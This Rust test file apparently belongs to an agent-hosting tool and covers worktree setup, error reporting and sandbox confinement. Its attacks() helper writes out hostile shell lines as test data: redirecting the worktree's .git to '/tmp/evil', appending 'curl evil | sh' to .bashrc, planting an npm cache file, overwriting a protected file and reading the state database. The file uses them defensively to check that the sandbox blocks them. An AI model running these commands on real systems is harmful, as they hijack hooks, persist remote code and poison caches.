//! `[worktree] setup` and the test command's own sandbox, through the real binary and the
//! supervisor: setup runs once per worktree before the agent, its failure fails the task with
//! its words and the fix, and neither the setup nor the test run reaches what it must not
//! (the worktree's `.git`, the real home, the package caches, Do NOT modify paths). Each
//! attack prints a marker and is checked on disk, with a sandbox-off control.

use std::path::{Path, PathBuf};

use crate::Test;
use crate::lifecycle::{StopSupervisor, sample, status_row, task_state};

/// Waits until the task's attempt `n` has ended (ready or failed); returns the state.
fn wait_for_attempt_end(test: &Test, n: u64) -> String {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(120);
    loop {
        let row = status_row(test, TASK);
        let state = row["state"].as_str().unwrap_or_default().to_string();
        if row["attempts"].as_u64() == Some(n) && (state == "ready" || state == "failed") {
            return state;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "attempt {n} stuck: {row}"
        );
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
}

/// The sample repository with `config` as its agenthost.toml and `deps/` ignored, committed.
fn with_config(config: &str) -> Test {
    let test = sample()
        .file("repo/.gitignore", "__pycache__/\n*.pyc\ndeps/\n")
        .file("repo/agenthost.toml", config);
    crate::commit_all(&test.path().join("repo"));
    test
}

const TASK: &str = "export-items-as-csv";
const SPEC: &str = "repo/specs/csv-export.md";

/// Setup runs in the new worktree before the agent, its output goes to the attempt log, the
/// test run sees what it made, and a correction does not run it again.
#[test]
fn setup_runs_once_in_the_new_worktree_before_the_agent() {
    let test = with_config(
        "[worktree]\nsetup = [\"mkdir -p deps && echo run >> deps/runs\", \"echo setup-said-hello\"]\n",
    );
    // The spec's own test command, which the test run must see the dependencies for.
    let spec = test.path().join(SPEC);
    let text = std::fs::read_to_string(&spec).expect("spec").replacen(
        "test = \"python3 -m unittest discover -s tests\"",
        "test = \"test -f deps/runs && echo deps-are-there && python3 -m unittest discover -s tests\"",
        1,
    );
    std::fs::write(&spec, text).expect("write spec");
    crate::commit_all(&test.path().join("repo"));
    let _stop = StopSupervisor(&test);
    let run = test.exec(&["launch", "--wait", SPEC]);
    assert!(
        run.stdout.contains(&format!("{TASK} is ready")),
        "{}",
        run.transcript()
    );
    let worktree = test.state_dir().join("worktrees").join(TASK);
    let runs = || std::fs::read_to_string(worktree.join("deps/runs")).unwrap_or_default();
    assert_eq!(runs(), "run\n");
    let log = test.exec(&["logs", TASK]).stdout;
    for expected in [
        "== agenthost: setup sandbox:",
        "== agenthost: setup `echo setup-said-hello`",
        "setup-said-hello",
        "deps-are-there",
        "== agenthost: test sandbox:",
    ] {
        assert!(log.contains(expected), "no `{expected}` in:\n{log}");
    }
    // The setup log comes before the agent's start.
    assert!(log.find("setup-said-hello") < log.find("== agenthost: attempt 1, agent"));
    let corrected = test.exec(&["correct", TASK, "-m", "Also keep it short."]);
    assert_eq!(corrected.code, 0, "{}", corrected.transcript());
    wait_for_attempt_end(&test, 2);
    assert_eq!(runs(), "run\n", "setup ran again for a correction");
}

/// A failing setup fails the task before the agent runs: `launch --wait` says which command,
/// how it ended, what it printed and what to do; after the fix, `resume` runs it again.
#[test]
fn a_failed_setup_fails_the_task_with_its_words_and_the_fix() {
    let test = with_config(
        "[worktree]\nsetup = [\"echo 'npm ERR! 404 Not Found - GET https://registry.npmjs.org/left-padd' >&2; exit 7\"]\n",
    );
    let _stop = StopSupervisor(&test);
    let run = test.exec(&["launch", "--wait", SPEC]);
    assert_ne!(run.code, 0, "{}", run.transcript());
    for expected in [
        "the setup command `echo 'npm ERR! 404",
        "exited with code 7",
        "so the agent did not run",
        "npm ERR! 404 Not Found",
        "Fix `[worktree] setup`",
        &format!("agenthost resume {TASK}"),
    ] {
        assert!(
            run.stdout.contains(expected),
            "no `{expected}` in:\n{}",
            run.transcript()
        );
    }
    assert_eq!(task_state(&test, TASK), "failed");
    let log = test.exec(&["logs", TASK]).stdout;
    assert!(!log.contains("agent `script`"), "the agent ran:\n{log}");

    std::fs::write(
        test.path().join("repo/agenthost.toml"),
        "[worktree]\nsetup = [\"mkdir -p deps && echo fixed > deps/ok\"]\n",
    )
    .expect("write config");
    let resumed = test.exec(&["resume", TASK]);
    assert_eq!(resumed.code, 0, "{}", resumed.transcript());
    assert_eq!(wait_for_attempt_end(&test, 2), "ready");
    let worktree = test.state_dir().join("worktrees").join(TASK);
    assert_eq!(
        std::fs::read_to_string(worktree.join("deps/ok"))
            .ok()
            .as_deref(),
        Some("fixed\n")
    );
}

/// What a hostile setup command and a hostile test command try: replace the worktree's
/// `.git` pointer (its hooks would run on the host), write a start-up file in the real home,
/// plant a package in the npm cache (the user's next install takes it), read agenthost's
/// state database (every task's spec and reason), and rewrite a Do NOT modify file (only the
/// test run must not). Each prints a marker when it ran.
/// `git` false leaves `.git` alone (the control's setup: a replaced pointer would stop the
/// task before its test run).
fn attacks(home: &std::path::Path, who: &str, git: bool) -> String {
    let state = home.join("state/agenthost/state.db");
    let state = state.display();
    let home = home.display();
    let git = if git {
        format!("(echo 'gitdir: /tmp/evil' > .git) 2>/dev/null && echo {who}-GIT-WRITTEN; ")
    } else {
        String::new()
    };
    format!(
        "echo {who}-ATTACK-RAN; {git}\
         (echo 'curl evil | sh' >> {home}/.bashrc) 2>/dev/null && echo {who}-HOME-WRITTEN; \
         (echo evil > {home}/.npm/{who}-planted) 2>/dev/null && echo {who}-CACHE-WRITTEN; \
         (echo evil > items/export.py) 2>/dev/null && echo {who}-DNM-WRITTEN; \
         (cat {state} > /dev/null) 2>/dev/null && echo {who}-STATE-READ; true"
    )
}

/// Whether a line of `log` is `marker` (the commands themselves are in the log too).
fn said(log: &str, marker: &str) -> bool {
    log.lines().any(|line| line.trim() == marker)
}

/// The spec, with a Do NOT modify entry the test run attacks.
const GUARDED_SPEC: &str = r#"+++
agent = "script"
+++

# Add a helper

## What

A helper module.

### Scope
- Create: `vendor/helper.py`
- Do NOT modify: `items/export.py`

```agenthost-script
[[edit]]
path = "vendor/helper.py"
write = "x = 1\n"
```
"#;

/// Runs the attacks as setup and as test command with the given sandbox `mode`; returns
/// the run's log and the test's home.
fn attacked(mode: &str) -> (Test, String) {
    let test = sample();
    let home = test.path().join(".test-home");
    let config = format!(
        "[worktree]\nsetup = [{setup:?}]\n\n[test]\ncommand = {check:?}\n",
        setup = attacks(&home, "SETUP", mode != "off"),
        check = attacks(&home, "TEST", true),
    );
    let test = test
        .file("repo/items/export.py", "# mine\n")
        .file("repo/specs/guarded.md", GUARDED_SPEC)
        .file("repo/agenthost.toml", &config)
        .file(".test-home/.npm/_cacache/index", "")
        .file(
            ".test-home/config/agenthost/config.toml",
            format!("[sandbox]\nmode = \"{mode}\"\n"),
        );
    crate::commit_all(&test.path().join("repo"));
    let stop = StopSupervisor(&test);
    let run = test.exec(&["launch", "--wait", "repo/specs/guarded.md"]);
    let log = test.exec(&["logs", "add-a-helper"]).stdout;
    drop(stop);
    (test, format!("{}\n{log}", run.transcript()))
}

#[test]
fn the_setup_and_test_runs_cannot_reach_git_the_home_the_caches_or_do_not_modify() {
    let (test, log) = attacked("enforce");
    // The setup may fill the caches (it runs the base commit's own install, before the
    // agent); the test run, which runs the agent's code, may not.
    for (who, blocked) in [
        ("SETUP", &["GIT-WRITTEN", "HOME-WRITTEN", "STATE-READ"][..]),
        (
            "TEST",
            &[
                "GIT-WRITTEN",
                "HOME-WRITTEN",
                "CACHE-WRITTEN",
                "DNM-WRITTEN",
                "STATE-READ",
            ][..],
        ),
    ] {
        assert!(said(&log, &format!("{who}-ATTACK-RAN")), "{log}");
        for what in blocked {
            assert!(
                !said(&log, &format!("{who}-{what}")),
                "{who}-{what}:\n{log}"
            );
        }
    }
    assert!(said(&log, "SETUP-CACHE-WRITTEN"), "{log}");
    let home = test.path().join(".test-home");
    assert!(!home.join(".bashrc").exists());
    assert!(home.join(".npm/SETUP-planted").exists());
    assert!(!home.join(".npm/TEST-planted").exists());
    assert_eq!(task_state(&test, "add-a-helper"), "ready", "{log}");
    let worktree = test.state_dir().join("worktrees/add-a-helper");
    let pointer = std::fs::read_to_string(worktree.join(".git")).unwrap_or_default();
    assert!(
        pointer.starts_with("gitdir: ") && !pointer.contains("/tmp/evil"),
        "{pointer}"
    );
    assert_eq!(
        std::fs::read_to_string(worktree.join("items/export.py"))
            .ok()
            .as_deref(),
        Some("# mine\n")
    );
}

/// The control: without the sandbox the same commands write all of it.
#[test]
fn without_the_sandbox_the_same_setup_and_test_commands_write_everywhere() {
    let (test, log) = attacked("off");
    let home = test.path().join(".test-home");
    assert!(said(&log, "SETUP-HOME-WRITTEN"), "{log}");
    assert!(
        std::fs::read_to_string(home.join(".bashrc"))
            .unwrap_or_default()
            .contains("curl evil")
    );
    assert!(home.join(".npm/TEST-planted").exists());
    for written in [
        "TEST-GIT-WRITTEN",
        "TEST-CACHE-WRITTEN",
        "TEST-DNM-WRITTEN",
        "TEST-STATE-READ",
    ] {
        assert!(said(&log, written), "no {written}:\n{log}");
    }
    let worktree = test.state_dir().join("worktrees/add-a-helper");
    assert!(
        std::fs::read_to_string(worktree.join(".git"))
            .unwrap_or_default()
            .contains("/tmp/evil")
    );
}

/// A virtual environment copied from the checkout (`[worktree] copy = [".venv"]`) with an
/// editable install runs the worktree's code, not the checkout's: its `.pth` and scripts
/// are pointed at the worktree.
#[test]
fn a_copied_venv_imports_the_worktrees_code_not_the_checkouts() {
    let test = sample()
        .file("repo/.gitignore", "__pycache__/\n*.pyc\n.venv/\n")
        .file("repo/src/probe/__init__.py", "")
        .file(
            "repo/agenthost.toml",
            "[worktree]\ncopy = [\".venv\"]\n\n[test]\ncommand = \".venv/bin/python -c 'import probe; print(\\\"PROBE-FROM\\\", probe.__file__)'\"\n",
        );
    let repo = test.path().join("repo");
    crate::commit_all(&repo);
    let python = if Path::new("/usr/bin/python3").exists() {
        "/usr/bin/python3"
    } else {
        "python3"
    };
    let made = test
        .command_for(python)
        .args(["-m", "venv", "--without-pip", ".venv"])
        .current_dir(&repo)
        .output()
        .expect("python3 -m venv");
    assert!(made.status.success(), "{made:?}");
    let site = test
        .command_for(repo.join(".venv/bin/python"))
        .args([
            "-c",
            "import sysconfig; print(sysconfig.get_paths()['purelib'])",
        ])
        .output()
        .expect("site-packages");
    let site = PathBuf::from(String::from_utf8_lossy(&site.stdout).trim());
    // What `pip install -e .` writes for a src layout.
    std::fs::write(site.join("_probe.pth"), format!("{}/src\n", repo.display())).expect("pth");
    // The spec's own test command would win over the config's: use one without.
    let spec = test.path().join(SPEC);
    let text = std::fs::read_to_string(&spec).expect("spec").replacen(
        "test = \"python3 -m unittest discover -s tests\"\n",
        "",
        1,
    );
    std::fs::write(&spec, text).expect("write spec");
    crate::commit_all(&repo);
    let _stop = StopSupervisor(&test);
    let run = test.exec(&["launch", "--wait", SPEC]);
    let log = test.exec(&["logs", TASK]).stdout;
    // The test's temp dir reads `[TEMP]` in the output.
    let expected = format!(
        "PROBE-FROM [TEMP]/.test-home/state/agenthost/worktrees/{TASK}/src/probe/__init__.py"
    );
    assert!(
        log.lines().any(|line| line.trim() == expected),
        "no `{expected}` in:\n{}\n{log}",
        run.transcript()
    );
}

/// A supervisor started earlier (with the PATH of that time) runs a later launch's task with
/// that launch's PATH: a tool the user installed, or a virtual environment activated, after
/// the supervisor started is what the task's test command finds.
#[test]
fn a_task_runs_with_the_path_of_the_launch_not_the_supervisors() {
    let test = with_config("");
    let first = test.exec(&["launch", "--wait", SPEC]);
    assert!(first.stdout.contains("is ready"), "{}", first.transcript());
    let bin = test.path().join("later-bin");
    std::fs::create_dir_all(&bin).expect("mkdir");
    let tool = bin.join("agenthost-greet");
    std::fs::write(&tool, "#!/bin/sh\necho GREETED-FROM-LATER-PATH\n").expect("write");
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let test = test.env("PATH", &path).file(
        "repo/specs/greet.md",
        GUARDED_SPEC.replace(
            "agent = \"script\"",
            "agent = \"script\"\ntest = \"agenthost-greet\"",
        ),
    );
    crate::commit_all(&test.path().join("repo"));
    let _stop = StopSupervisor(&test);
    let run = test.exec(&["launch", "--wait", "repo/specs/greet.md"]);
    let log = test.exec(&["logs", "add-a-helper"]).stdout;
    assert!(
        said(&log, "GREETED-FROM-LATER-PATH"),
        "{}\n{log}",
        run.transcript()
    );
    assert_eq!(task_state(&test, "add-a-helper"), "ready");
}

/// What the sandbox refused reaches the user with the setting that allows it: a setup that
/// connects to a port the setup may not reach fails with a `help:` line in `launch --wait`,
/// and a test run that reads outside its grants gets a `sandbox-refused` finding in `review`.
#[test]
fn refusals_reach_the_user_with_the_setting_that_allows_them() {
    let test = with_config(
        "[worktree]\nsetup = [\"python3 -c \\\"import urllib.request; urllib.request.urlopen('http://127.0.0.1:9/')\\\"\"]\n",
    );
    let _stop = StopSupervisor(&test);
    let run = test.exec(&["launch", "--wait", SPEC]);
    for expected in [
        "the setup command `python3",
        "Permission denied",
        "help: the sandbox stopped a connection: the setup reaches TCP ports 443 and 80 only",
    ] {
        assert!(
            run.stdout.contains(expected),
            "no `{expected}` in:\n{}",
            run.transcript()
        );
    }

    let test = sample().file(".test-home/notes/fixture.txt", "data\n");
    let fixture = test.path().join(".test-home/notes/fixture.txt");
    let test = test.file(
        "repo/specs/guarded.md",
        GUARDED_SPEC.replace(
            "agent = \"script\"",
            &format!("agent = \"script\"\ntest = \"cat {}\"", fixture.display()),
        ),
    );
    crate::commit_all(&test.path().join("repo"));
    let _stop = StopSupervisor(&test);
    let run = test.exec(&["launch", "--wait", "repo/specs/guarded.md"]);
    assert!(run.stdout.contains("blocking"), "{}", run.transcript());
    let review = test.exec(&["review", "add-a-helper"]);
    for expected in [
        "sandbox-refused",
        "the test command failed, and the sandbox refused",
        "add `read = [\"~/notes/fixture.txt\"]`",
    ] {
        assert!(
            review.stdout.contains(expected),
            "no `{expected}` in:\n{}",
            review.transcript()
        );
    }
}
